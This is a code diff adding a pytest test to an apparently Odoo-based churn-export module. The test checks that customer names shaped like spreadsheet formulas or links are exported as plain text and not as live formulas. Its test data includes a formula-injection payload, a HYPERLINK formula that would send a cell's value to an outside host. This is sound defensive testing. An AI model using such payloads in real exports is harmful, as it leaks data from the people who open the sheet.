@@ -119,3 +119,22 @@ def test_users_outside_the_cockpit_cannot_export(shop, customers):
     clerk = mail_new_test_user(shop.env, login="export_clerk", groups="base.group_user", name="Clerk")
     with pytest.raises(AccessError):
         shop.env["customer.churn.export"].with_user(clerk).create({})
+
+
+def test_a_name_that_looks_like_a_formula_stays_text(shop, rep):
+    """A shop named like a formula or a link is written as its name, never as a live formula."""
+    names = ['=HYPERLINK("https://x/?"&H2,"Open")', "https://shop.example/order", "+1-2", "@SUM(A1)"]
+    partners = shop.env["res.partner"].browse([shop.customer(name, user_id=rep.id).id for name in names])
+    action = (
+        shop.env.ref("customer_churn_cockpit.customer_churn_export_action")
+        .with_user(rep)
+        .with_context(active_model="res.partner", active_ids=partners.ids)
+        .run()
+    )
+    record = shop.env["customer.churn.export"].browse(int(action["url"].split("/")[4]))
+    sheet = openpyxl.load_workbook(io.BytesIO(base64.b64decode(record.file))).active
+    cells = [sheet.cell(row, 1) for row in range(2, 6)]
+    assert sorted(cell.value for cell in cells) == sorted(names)
+    assert {cell.data_type for cell in cells} == {"s"}  # "f" would be a formula
+    assert not any(cell.hyperlink for cell in cells)
+    assert sheet["H6"].data_type == "f" and sheet["H6"].value == "=SUBTOTAL(109,H2:H5)"  # the totals stay formulas
